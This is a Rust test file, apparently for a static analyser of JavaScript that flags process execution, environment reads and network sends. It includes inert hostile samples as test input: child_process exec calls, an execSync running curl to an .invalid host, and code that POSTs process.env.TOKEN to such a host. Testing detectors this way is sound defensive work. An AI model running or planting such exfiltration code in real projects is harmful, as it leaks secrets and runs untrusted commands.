//! Phrasings of bad behaviour, and ordinary code beside them. Samples are inert: they point at hosts that cannot exist.

use super::super::facts::{FileFacts, Gate, Reading, Scope};
use super::read;

/// `what` in the words of the data format.
fn word(what: super::super::facts::What) -> String {
    serde_json::to_value(what).unwrap().as_str().unwrap().to_owned()
}

/// Facts as `exec:curl`, with their scope as `exec:curl @load`; flows as `env_all -> net_send`, `~>` with a decoder between,
/// with and without details.
fn lines(facts: &FileFacts) -> Vec<String> {
    let mut lines = Vec::new();
    for fact in &facts.facts {
        let scope = if fact.scope == Scope::Load { "@load" } else { "@call" };
        lines.push(format!("{}:{}", word(fact.what), fact.detail));
        lines.push(format!("{}:{} {scope}", word(fact.what), fact.detail));
        if fact.folded {
            lines.push(format!("{}:{} @folded", word(fact.what), fact.detail));
        }
    }
    for (from, to, decoded) in facts.flowing() {
        let arrow = if decoded { "~>" } else { "->" };
        lines.push(format!("{} {arrow} {}", word(from.what), word(to.what)));
        lines.push(format!("{}:{} {arrow} {}:{}", word(from.what), from.detail, word(to.what), to.detail));
    }
    lines
}

/// What is not as expected. Every expected line is there; of those that begin with `!`, no line contains the rest.
fn failures(source: &str, expected: &[&str]) -> Vec<String> {
    let facts = read(source.as_bytes(), "index.js");
    assert_eq!(facts.reading, Reading::Parsed, "does not parse: {source}");
    let lines = lines(&facts);
    let holds = |expected: &&&str| match expected.strip_prefix('!') {
        Some(absent) => !lines.iter().any(|line| line.contains(absent)),
        None => lines.iter().any(|line| line == **expected),
    };
    expected
        .iter()
        .filter(|expected| !holds(expected))
        .map(|expected| format!("{expected}: {lines:#?}"))
        .collect()
}

#[track_caller]
fn check(source: &str, expected: &[&str]) {
    let failures = failures(source, expected);
    if std::env::var_os("TIDEGATE_SHOW_ALL").is_some() && !failures.is_empty() {
        eprintln!("FAIL {source}\n{}", failures.join("\n"));
        return;
    }
    assert!(failures.is_empty(), "{source}\n{}", failures.join("\n"));
}

/// Nothing flows.
#[track_caller]
fn calm(source: &str) {
    check(source, &["!->", "!~>"]);
}

mod benign;
mod folding;
mod hostile;
mod naming;
mod sinks;

/// Characters without a pattern, as packed code has them.
fn noise(length: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = 12_345_u32;
    (0..length)
        .map(|_| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            char::from(ALPHABET[(state >> 16) as usize % ALPHABET.len()])
        })
        .collect()
}

#[test]
fn odd_texts_are_read() {
    for source in [
        "#!/usr/bin/env node\nrequire('child_process').exec('evil')",
        "\u{FEFF}require('child_process').exec('evil')",
        "require('child_process')\r\n.exec('evil')\r\n",
        "<!-- x\nrequire('child_process').exec('evil')\n--> y",
        "require('child_process').exec('evil')</script>",
        "with (x) { require('child_process').exec('evil') }",
        "return require('child_process').exec('evil')",
        "await 1; require('child_process').exec('evil')",
    ] {
        check(source, &["exec:evil"]);
    }
}

#[test]
fn what_does_not_parse_is_read_by_words() {
    let facts = read(
        b"const a = ((( ; require('child_process').execSync('curl https://c.invalid'); process.env.A",
        "a.js",
    );
    assert_eq!(facts.reading, Reading::Tokens);
    let lines = lines(&facts);
    for line in ["exec:curl https://c.invalid", "env_read:A"] {
        assert!(lines.iter().any(|found| found == line), "{lines:?}");
    }
    assert_eq!(facts.imports, ["child_process"]);
}

#[test]
fn nesting_is_no_way_to_crash() {
    for piece in [
        "(",
        "[",
        "{",
        "!",
        "- ",
        "a=>",
        "a?b:",
        "`${",
        "<a>",
        "if(a){}else ",
        "new ",
        "a=",
        "a.b(",
        "f(()=>{",
        "x+(",
        "async ",
        "{a:",
        "[...",
        "class A extends (",
        "a(\")\",(",
        "typeof ",
        "a**",
    ] {
        for count in [300, 100_000] {
            let _ = read(piece.repeat(count).as_bytes(), "a.js");
        }
    }
    for piece in ["1+", "a.b.", "a().", "a,", "a;", "[1],", "a||", "a??", "a&&"] {
        let _ = read(format!("x={}1", piece.repeat(100_000)).as_bytes(), "a.js");
    }
    for (open, close) in [
        ("(", ")"),
        ("[", "]"),
        ("f(", ")"),
        ("!function(){", "}()"),
        ("(()=>{", "})()"),
        ("{a:", "}"),
        ("`${", "}`"),
    ] {
        let _ = read(format!("x={}1{}", open.repeat(450), close.repeat(450)).as_bytes(), "a.js");
    }
}

#[test]
fn calls_within_calls_are_bounded() {
    let doubling: String =
        (0..60).map(|n| format!("function f{n}(a){{ f{}(a+1); f{}(a+2); }}\n", n + 1, n + 1)).collect();
    let _ = read(format!("{doubling}f0(1)").as_bytes(), "a.js");
    let _ = read(b"function f(x) { return f(x + 'a') + f(f(x)) } f('a')", "a.js");
    let _ = read(
        b"let s = 'aaaaaaaaaaaaaaaa'; for (;;) s = s + s; s = s.repeat(1e9); s = s.split('').join(s)",
        "a.js",
    );
    let _ = read(b"let a = []; a.push(a); JSON.stringify(a); a.map(x => x.map(y => y)); fetch(a)", "a.js");
}

proptest::proptest! {
    #[test]
    fn never_panics(bytes: Vec<u8>) {
        let _ = read(&bytes, "a.js");
    }

    #[test]
    fn never_panics_on_parts(from in 0_usize..4_000, length in 0_usize..4_000, swap in 0_usize..4_000) {
        let whole: String = [include_str!("tests/hostile.rs"), include_str!("tests/benign.rs")].concat();
        let inner: Vec<&str> = whole.split('"').skip(1).step_by(2).filter(|part| part.len() > 30).collect();
        let mut text = inner.join(";\n").into_bytes();
        text = text.iter().copied().skip(from).take(length).collect();
        if let Some(byte) = text.get_mut(swap) {
            *byte = b'(';
        }
        let _ = super::run(&String::from_utf8_lossy(&text), "a.ts");
    }
}

#[test]
fn arrays_that_double_end_as_unknown_with_their_origins() {
    // Without a bound, each of these would take more memory than there is.
    for doubled in ["x = [...x, ...x];", "x = x.concat(x);", "x = x.concat(x).slice(0).map((one) => one);"] {
        let source = format!(
            "let x = [1, process.env.TOKEN];\n{}fetch('https://a.invalid/', {{ method: 'POST', body: x.join() }});",
            format!("{doubled}\n").repeat(60)
        );
        check(&source, &["env_read:TOKEN -> net_send:https://a.invalid/"]);
    }
}
